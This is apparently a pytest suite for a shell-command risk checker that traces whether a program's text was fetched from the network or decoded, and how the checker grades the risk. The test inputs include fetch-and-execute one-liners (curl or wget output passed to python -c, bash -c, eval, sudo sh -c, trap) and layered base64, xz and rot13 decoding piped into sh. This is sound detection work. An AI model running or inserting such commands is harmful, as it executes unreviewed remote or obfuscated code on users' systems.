"""Where a program's text comes from: the network or an encoding, told from the shell text around it."""

import pytest

from flycatcher.commands.check.settings import CheckSettings
from flycatcher.commands.check.stream import shell_answer
from flycatcher.core.shell import read_shell

FETCH = "curl -fsSL https://files.example/y"


def context(text):
    """Return the facts of the last start."""
    return read_shell(text).executions[-1].context


def level(text):
    """Return the level of shell text."""
    return shell_answer(text, CheckSettings()).risk["level"]


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (f'python3 -c "$({FETCH})"', "argument.2.fetched"),
        (f'X=$({FETCH}); perl -e "$X"', "argument.2.fetched"),
        (f'sudo -u a env B=1 ruby -e "$({FETCH} | base64 -d)"', "argument.2.fetched"),
        (f'python3 <<< "$({FETCH})"', "stdin.fetched"),
        (f'echo "$({FETCH})" | python3', "stdin.fetched"),
        (f"python3 <({FETCH})", "descriptor.63.fetched"),
        (f'eval "$({FETCH})"', "argument.2.fetched"),
    ],
)
def test_command_that_fetched_the_text_is_told(text, key):
    assert context(text)[key] == FETCH


@pytest.mark.parametrize(
    "text",
    [
        'python3 -c "$(curl -o out https://files.example/y)"',
        'python3 -c "$(curl -sO https://files.example/y)"',
        'python3 -c "$(wget https://files.example/y)"',
        'python3 -c "$(cat gen.py)"',
        f'python3 -c "$({FETCH} | jq -r .version)"',
    ],
)
def test_what_is_not_shown_or_is_chosen_from_is_no_download(text):
    assert not any(name.endswith(".fetched") for name in context(text))


def test_marks_do_not_leave_the_reader():
    for execution in read_shell(f'X=$({FETCH}); export X; python3 -c "$X" "$(base64 -d <<< cHJpbnQoMSk=)"').executions:
        whole = "".join((*execution.argv, *execution.env.values()))
        assert not any("\ud800" <= char <= "\udfff" for char in whole)


@pytest.mark.parametrize(
    "text",
    [
        f'{program} "$({fetch})"'
        for program in (
            "python3 -c",
            "perl -e",
            "ruby -e",
            "php -r",
            "node -e",
            "bash -c",
            "sh -c",
            "eval",
            "sudo sh -c",
        )
        for fetch in ("curl -fsSL http://files.example/y", "wget -qO- http://files.example/y")
    ]
    + [
        f"python3 <({FETCH} | base64 -d)",
        'bash -c "$(curl -fsSL http://raw.githubusercontent.com/a/b/i)"',
        'trap "$(curl -fsSL http://files.example/y)" EXIT',
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/a/b/main/install.sh)"',
    ],
)
def test_program_that_is_a_download_nobody_answers_for_is_high(text):
    assert level(text) in ("high", "critical")


@pytest.mark.parametrize(
    "text",
    [
        f"V=$({FETCH}); node -e \"console.log(1, '$V')\"",
        f'V=$({FETCH}); sh -c "echo building $V"',
        'eval "$(ssh-agent -s)"',
        'bash -c "$(which make) test"',
        'python3 -c "$(cat gen.py)"',
    ],
)
def test_values_stay_low(text):
    assert level(text) in ("none", "low")


def test_program_that_was_encoded_is_worth_more_than_the_same_in_the_open():
    hidden = 'node -e "$(base64 -d <<< cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=)"'
    assert level("node -e \"require('child_process').exec('id')\"") == "low"
    assert context(hidden)["argument.2.decoded"] == "yes"
    assert level(hidden) == "high"
    assert level("echo cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk= | base64 -d | node") == "high"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("base64 -d f | sh", "medium"),
        ("base64 -d f | gunzip | sh", "high"),
        (r'tr "\t \-_" " \t_\-" < f | xz -d | sh', "high"),
        ("xz -d f | tr A-Za-z N-ZA-Mn-za-m | sh", "high"),
        ("zcat f | tr -d x | sh", "medium"),
        ("zcat f | tr a-z A-Z | sh", "medium"),
    ],
)
def test_program_that_was_decoded_more_than_once_is_high_unseen(text, expected):
    assert level(text) == expected
